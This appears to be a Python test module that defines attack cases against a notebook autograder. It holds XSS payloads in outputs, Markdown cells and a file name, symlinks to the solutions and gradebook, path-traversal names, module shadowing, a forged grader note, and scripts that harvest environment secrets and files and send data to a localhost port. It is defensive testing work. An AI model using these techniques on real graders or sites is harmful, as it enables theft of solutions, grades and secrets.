"""Attacks that read or write where they do not belong. Their answers are empty."""

from __future__ import annotations

from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell, new_raw_cell

from autograder.maintain.threats.assignment import FULL, SOLUTIONS
from autograder.maintain.threats.attack import Attack, source
from autograder.maintain.threats.pages import FORGED_NOTE

MARKER = "marker4711"  # what each script says, so that it can be found in a page
PORT_VARIABLE = "THREATS_PORT"  # where something listens, for the attack that sends

_SCRIPTS = source(f"""
    from IPython.display import HTML, SVG, Javascript, Markdown, display
    display(HTML("<script>alert('{MARKER}')</script><img src=x onerror=alert('{MARKER}')>"))
    display(HTML("<a href='javascript:alert(\\"{MARKER}\\")'>x</a><iframe srcdoc='{MARKER}'>"))
    display(Markdown("[x](javascript:alert('{MARKER}'))"))
    display(Javascript("alert('{MARKER}')"))
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert('{MARKER}')</script></svg>"
    display(SVG(svg))
    display({{"image/png": "x' onerror='alert({MARKER})"}},
            metadata={{"image/png": {{"width": "1 onerror=alert('{MARKER}')"}}}}, raw=True)
    display({{"text/latex": "$\\\\href{{javascript:alert('{MARKER}')}}{{x}}$"}}, raw=True)
    view = {{"model_id": "</script><script>{MARKER}"}}
    display({{"application/vnd.jupyter.widget-view+json": view}},
            raw=True)
    raise ValueError("<script>alert('{MARKER}')</script>")
""")


def _scripts_in_text(notebook: NotebookNode) -> None:
    for text in (
        f"<script>alert('{MARKER}')</script><img src=x onerror=alert('{MARKER}')>",
        f"[x](javascript:alert('{MARKER}')) [y](java&Tab;script:alert('{MARKER}'))",
        f"[z]\n\n[z]: javascript:alert('{MARKER}')",
        f"<svg onload=alert('{MARKER}')></svg>",
        f"```mermaid\n<img src=x onerror=alert('{MARKER}')>\n```",
    ):
        notebook.cells.append(new_markdown_cell(text))
        notebook.cells.append(new_raw_cell(text))


def _once_rendered(notebook: NotebookNode) -> None:
    for text in (
        f"`attachment:`<img src=x onerror=\"alert('{MARKER}')\">",
        f"<div><img src=x onerror=\"alert('{MARKER}')\" x",
        f"# <img src=x onerror=alert('{MARKER}')>",
    ):
        notebook.cells.append(new_markdown_cell(text))


def _asks(notebook: NotebookNode) -> None:
    for text in (
        f"![x](http://127.0.0.1:9/{MARKER}.png)",
        "![x](/logout)",
        f"<p style=\"cursor:url('http://127.0.0.1:9/{MARKER}'),auto\">x</p>",
    ):
        notebook.cells.append(new_markdown_cell(text))


def _forged_note(notebook: NotebookNode) -> None:
    text = f"**What the grader had to put right in this hand-in**\n\n- {FORGED_NOTE}"
    notebook.cells.insert(0, new_markdown_cell(text))


def _named(folder: Path, data: bytes) -> None:
    (folder / "cnns.ipynb").write_bytes(data)
    (folder / f"<img src=x onerror=alert('{MARKER}')>").symlink_to("cnns.ipynb")


def _links(folder: Path, data: bytes) -> None:
    (folder / "cnns.ipynb").write_bytes(data)
    course = folder.parents[2]
    (folder / "mine.txt").symlink_to(course / "source" / "cnns" / "cnns.ipynb")
    (folder / "grades").symlink_to(course / "gradebook.db")


def _dots(folder: Path, data: bytes) -> None:
    (folder / "cnns.ipynb").write_bytes(data)
    (folder / "..\\cnns.py").write_text("print(1)", encoding="utf-8")
    (folder / "..." / "..cnns").mkdir(parents=True)


def _shadows(folder: Path, data: bytes) -> None:
    (folder / "cnns.ipynb").write_bytes(data)
    for name in ("torch.py", "json.py", "autograder.py", "course_utils.py"):
        text = "raise ImportError('shadowed')"
        (folder / name).write_text(text, encoding="utf-8")


READING = (
    Attack(
        "reads-everything",
        "reads other hand-ins, the solutions, the gradebook, environment secrets, the home folder",
        opening=source("""
            import os, pathlib
            texts = [repr(dict(os.environ))]
            roots = [pathlib.Path.home()]
            parents = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]
            roots += [p for p in parents if (p / "gradebook.db").exists()]
            own = pathlib.Path.cwd().parent.name
            for root in roots:
                for path in root.rglob("*"):
                    if own in path.parts or not path.is_file() or path.stat().st_size > 10**6:
                        continue
                    texts.append(path.read_bytes().decode("latin-1"))
            import re
            print(sorted(set(re.findall("CANARY-[a-z]+", " ".join(texts)))))
        """),
    ),
    Attack(
        "network",
        "sends what it found over the network",
        opening=source(f"""
            import os, pathlib, socket
            for port in [int(os.environ.get("{PORT_VARIABLE}", 4711))]:
                with socket.create_connection(("127.0.0.1", port), timeout=2) as server:
                    server.sendall(b"secrets")
        """),
    ),
    Attack(
        "symbolic-links",
        "hands in symbolic links to the solutions and to the gradebook",
        SOLUTIONS,
        opening="import os\nprint([n for n in ('mine.txt', 'grades') if os.path.exists(n)])",
        write=_links,
        earned=FULL,
    ),
    Attack("dots", "has `..` in a name", SOLUTIONS, write=_dots, earned=FULL),
    Attack(
        "script-in-an-output",
        "puts scripts into outputs: HTML, SVG, Markdown, a picture's metadata, an error",
        SOLUTIONS,
        closing=_SCRIPTS,
        earned=FULL,
        page=True,
    ),
    Attack(
        "script-in-a-text-cell",
        "puts scripts into Markdown and raw cells",
        SOLUTIONS,
        edit=_scripts_in_text,
        earned=FULL,
        page=True,
    ),
    Attack(
        "script-once-rendered",
        "writes Markdown that is harmless as source and a script once it is rendered",
        SOLUTIONS,
        edit=_once_rendered,
        earned=FULL,
        page=True,
    ),
    Attack(
        "script-in-a-file-name",
        "hands in a symbolic link whose name is a script",
        SOLUTIONS,
        write=_named,
        earned=FULL,
        page=True,
    ),
    Attack(
        "asks-when-read",
        "has remote pictures and cursors, and one that logs the reader out",
        SOLUTIONS,
        edit=_asks,
        earned=FULL,
        page=True,
    ),
    Attack(
        "forged-note",
        "begins with a note in the grader's words",
        SOLUTIONS,
        edit=_forged_note,
        earned=FULL,
        page=True,
    ),
    Attack(
        "shadows",
        "puts a `torch.py` and a `json.py` beside the notebook",
        SOLUTIONS,
        write=_shadows,
        earned=FULL,
    ),
)
